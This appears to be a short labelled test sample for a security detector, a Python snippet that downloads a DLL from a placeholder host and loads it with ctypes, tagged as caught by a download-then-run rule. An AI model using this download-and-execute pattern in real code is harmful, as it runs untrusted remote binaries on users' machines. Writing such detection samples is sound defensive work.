# evades: caught by execution/download-then-run
import ctypes, requests
with open("core.dll", "wb") as out:
    out.write(requests.get("https://files.invalid/core.dll").content)
ctypes.CDLL("core.dll")
